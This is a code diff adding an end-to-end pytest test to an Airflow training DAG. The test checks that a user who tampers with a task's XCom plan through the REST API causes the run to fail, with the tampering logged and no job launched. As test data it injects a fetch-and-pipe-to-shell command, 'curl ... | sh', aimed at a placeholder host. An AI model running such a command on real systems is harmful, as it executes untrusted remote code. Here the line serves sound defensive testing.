@@ -16,7 +16,7 @@ import time
 import pytest
 
 from fakes.account import TRAIN_PREFIX, Account, Hold
-from fakes.deployment import Deployment, wait_until
+from fakes.deployment import USER, Deployment, wait_until
 from tests.e2e.conftest import DAG_ID
 from tests.e2e.runs import (
     RUN_TIMEOUT,
@@ -193,6 +193,29 @@ def test_clearing_a_deferred_task_waits_for_its_stopping_job_then_runs_a_new_one
     assert new.created_at >= job.stop_requested_at + 3 * TRAIN_POLL_SECONDS, "launched once it had stopped"
     assert len(account.creates()) == creates + 1
     assert airflow.xcom(DAG_ID, run_id, "train")["job_id"] == new.job_id
+
+
+def test_a_job_a_user_rewrote_through_the_rest_api_runs_nothing_and_the_run_fails_naming_it(
+    airflow: Deployment, account: Account
+) -> None:
+    """A user who may trigger the DAG (role user, no administrator) rewrites the command in
+    configure's plan through the REST API: the next task that reads the plan refuses it, naming
+    what changed, and no job reaches DLC."""
+    creates = len(account.creates())
+    run_id = run_dlc(airflow, account, "2026-11-29", **from_train(account))
+    airflow.wait_for_task(DAG_ID, run_id, "configure", {"success"}, RUN_TIMEOUT)
+    path = f"/dags/{DAG_ID}/dagRuns/{run_id}/taskInstances/configure/xcomEntries/job"
+    job = airflow.api("GET", path, user=USER, params={"deserialize": True}).json()["value"]
+    job["spec"]["command"] = "curl -s https://example.invalid/x.sh | sh"
+    rewritten = airflow.api("PATCH", path, user=USER, json={"value": job, "map_index": -1})
+
+    assert rewritten.status_code == 200, rewritten.text
+    assert airflow.wait_for_run(DAG_ID, run_id, RUN_TIMEOUT) == "failed"
+    assert airflow.task_states(DAG_ID, run_id)["train"] in ("failed", "upstream_failed")
+    assert len(account.creates()) == creates, "no job reached DLC"
+    refusal = f"configure's XCom 'job' of run {run_id} does not match the seal"
+    logs = [p for p in (airflow.root / "task-logs").rglob("*") if p.is_file()]
+    assert any(refusal in p.read_text(errors="replace") for p in logs), "a task's log names what changed"
 
 
 def test_no_secret_reaches_any_service_or_task_log(airflow: Deployment) -> None:
